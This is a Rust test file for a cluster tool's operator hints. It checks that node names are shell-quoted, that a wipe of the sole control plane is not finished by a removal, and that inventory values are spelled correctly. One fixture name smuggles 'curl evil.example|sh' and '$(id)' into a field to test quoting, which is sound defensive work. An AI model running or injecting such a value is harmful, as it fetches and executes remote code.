use super::*;

/// What machines and their clusters name is one word of a command that a person copies, whatever is in it.
#[test]
fn a_name_in_a_command_is_one_word_of_it() {
    let name = "a; curl evil.example|sh; 'b $(id)";
    let text = || name.to_owned();
    let remove = |dead| Command::Remove { node: text(), dead };
    let hints = [
        Hint::Run(remove(false)),
        Hint::Run(remove(true)),
        Hint::DropLearner(remove(true)),
        Hint::Rename(remove(true)),
        Hint::ForgetOnly(remove(true)),
        Hint::TurnOnOrRemove(remove(true)),
        Hint::MendMember { member: String::new(), command: remove(true) },
        Hint::Unmount { path: text() },
        Hint::Uncordon(text()),
        Hint::LookAtPod { namespace: text(), pod: text() },
        Hint::DeleteRequest { request: text() },
        Hint::Relieve { node: text(), condition: "NetworkUnavailable".to_owned() },
        Hint::FixPodNetwork { machine: MachineName::new("rarity").expect("a name"), fault: Fault::Other { file: text() } },
    ];
    for hint in hints {
        let said = hint.to_string();
        assert!(said.contains(&*shell_word(name)) && !said.replace(&*shell_word(name), "").contains("curl"), "{said}");
    }
}

/// Of the only control plane nothing can be removed while it is one.
#[test]
fn a_wipe_of_the_only_control_plane_is_not_finished_by_a_removal() {
    let machine = MachineName::new("rarity").expect("a name");
    let [restore, rebuild] = [Command::Restore(machine.clone()), Command::Rebuild { machine, take_over: false }];
    assert!(!Hint::FinishWipe(restore).to_string().contains("remove"));
    assert!(Hint::FinishWipe(rebuild).to_string().contains("`hostler remove rarity`"));
}

/// What a hint says to write into the inventory is an inventory, with the value that the running cluster has.
#[test]
fn a_value_to_keep_is_spelled_as_the_inventory_spells_it() {
    let values = [
        (Unchangeable::PodSubnet, "10.200.0.0/16"),
        (Unchangeable::ServiceSubnet, "10.112.0.0/12"),
        (Unchangeable::Endpoint, "api.home.internal:6443"),
        (Unchangeable::Endpoint, "api.example.org:443"),
        (Unchangeable::Endpoint, "api.example.org:6443"),
        (Unchangeable::Endpoint, "192.168.1.9:6443"),
        (Unchangeable::Endpoint, "[fd00::9]:6443"),
        (Unchangeable::ClusterName, "ponies"),
        (Unchangeable::Cni, "flannel-host-gw"),
    ];
    for (key, is) in values {
        let hint = Hint::KeepAsIs { key, is: is.to_owned() }.to_string();
        let written = hint.split('`').nth(1).expect("what to write is in backticks");
        let (address, subnets) = match is.starts_with('[') {
            true => ("fd00::1", "{podSubnet: fd00:1::/56, serviceSubnet: fd00:2::/112, "),
            false => ("192.168.1.1", "{"),
        };
        let text = format!("machines: {{rarity: \"{address}\"}}\n{}\n", written.replacen('{', subnets, 1));
        let inventory = crate::inventory::parse(&text, "inventory.yaml").unwrap_or_else(|why| panic!("{text}\n{why}"));
        let cluster = &inventory.cluster;
        let has = match key {
            Unchangeable::PodSubnet => cluster.pod_subnet.to_string(),
            Unchangeable::ServiceSubnet => cluster.service_subnet.to_string(),
            Unchangeable::Endpoint => cluster.authority(),
            Unchangeable::ClusterName => cluster.name.clone(),
            Unchangeable::Cni => crate::plan::check::cni_name(cluster.cni).to_owned(),
        };
        assert_eq!(has, is, "{text}");
    }
    let either = Hint::KeepAsIs { key: Unchangeable::Endpoint, is: "api.example.org:6443".to_owned() }.to_string();
    assert!(either.contains("{external: \"api.example.org:6443\"}") && either.contains("{endpoint: api.example.org}"), "{either}");
}
